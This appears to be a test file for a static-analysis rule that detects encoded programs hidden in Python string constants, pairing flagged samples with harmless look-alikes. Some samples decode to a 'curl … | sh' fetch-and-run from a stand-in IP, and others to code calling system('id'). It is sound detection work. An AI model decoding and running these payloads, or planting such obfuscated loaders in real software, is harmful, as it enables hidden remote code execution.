# py-payload-embedded-code: constants that are programs once decoded, and look-alikes.
import base64
import codecs
import zlib

# ruleid: py-payload-embedded-code
ELF = "f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=="
# ruleid: py-payload-embedded-code
STAGE = base64.b64decode("IyEvYmluL3NoCmN1cmwgLXMgaHR0cDovLzIwMy4wLjExMy45L3ggfCBzaAo=")
# ruleid: py-payload-embedded-code
HOOK = zlib.decompress(base64.b64decode("eJzLzC3ILypRyC/myi/WK64sLknN1VBPLi3KUdAtVsgoKSmw0tc3MjDWM9AzNDTWs9SvUKhRKM5Q1+QCAC/kEU8="))
# ruleid: py-payload-embedded-code
KERNEL_SRC = "23696e636c756465203c737464696f2e683e0a696e74206d61696e28766f696429207b2072657475726e2073797374656d2822696422293b207d0a"
# ruleid: py-payload-embedded-code
REVERSED = "KkyJoNHI8BCevkjLzETMuAjLzAjMv8iOwRHdoByctACbyV3YngSblR3c5NnLz9mCz9GI0J3bw1Wa"
# ruleid: py-payload-embedded-code
CUDA = "L5PWO3DPMJQWYX27EB3G62LEEBVSQZTMN5QXIIBKPAUSA6ZAPBNTAXJAHUQDCOZAPUFA===="
# ruleid: py-payload-embedded-code
DLL = "TVoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAQAAAAFBFAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
# ruleid: py-payload-embedded-code
PACKED = "/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQA4aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNoJykKAAAAAGWsVjS/ov7EAAFROTZRI9wftvN9AQAAAAAEWVo="
# ruleid: py-payload-embedded-code
BYTECODE = "YwAAAAAAAAAAAAAAAAMAAAAAAAAA8xwAAACXAAIAZQBkAKYBAACrAQAAAAAAAAAAAQBkAVMAKQLpAQAAAE4pAdoFcHJpbnSpAPMAAAAA+gM8eD76CDxtb2R1bGU+cgYAAAABAAAAcxYAAADwAwEBAdgABYAFgGGBCIQIgAiACIAIcgQAAAA="
# ruleid: py-payload-embedded-code
B85 = "X>D+Ca&#bXa|&;BE^~QvbY*QQCu4PTY#=RjAZT=Sa5^t9GB7hPFfK7MGcGwVcp!Wrb7&_i3I"
# rot13, decoded by the code or not.
# ruleid: py-payload-embedded-code
ROTATED = codecs.decode("vzcbeg bf\nbf.flfgrz('vq')\n", "rot13")
# A binary needs no encoding to be hidden: escapes are enough.
# ruleid: py-payload-embedded-code
RAW = (b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00\x3e\x00\x01\x00\x00\x00"
       b"\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
       b"\x00\x00\x00\x00\x00\x00\x00\x00")
# A magic number alone is no program.
# ok: py-payload-embedded-code
MAGIC = b"\x7fELF"
# Split into pieces, joined by the parser or by +: one finding for the whole.
# ruleid: py-payload-embedded-code
SPLIT = ("f0VMRgIBAQAAAAAAAAAAAAMAPgAB"
         "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==")
# ruleid: py-payload-embedded-code
JOINED = "f0VMRgIBAQAAAAAAAAAAAAMAPgAB" + "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=="

# Data that decodes but is no program.
# ok: py-payload-embedded-code
ICON = "iVBORw0KGgoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
# ok: py-payload-embedded-code
TOKEN = "dMWYNuWIOHZDDbAlpK8VV4HM8OnmDKr8DeVkJZCLl+nmDkKiOzPRiGonnTCQYPrR"
# ok: py-payload-embedded-code
TEXT = "VGhlIHF1aWNrIGJyb3duIGZveCBqdW1wcyBvdmVyIHRoZSBsYXp5IGRvZywgdHdpY2Ugb3Zlci4="
# ok: py-payload-embedded-code
DIGEST = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
# Source in plain sight is not hidden.
# ok: py-payload-embedded-code
SNIPPET = "import os\nos.system('nvidia-smi')\n"
# ok: py-payload-embedded-code
TEMPLATE = "#include <cuda_runtime.h>\n__global__ void add(float *x) { x[0] += 1; }\n"
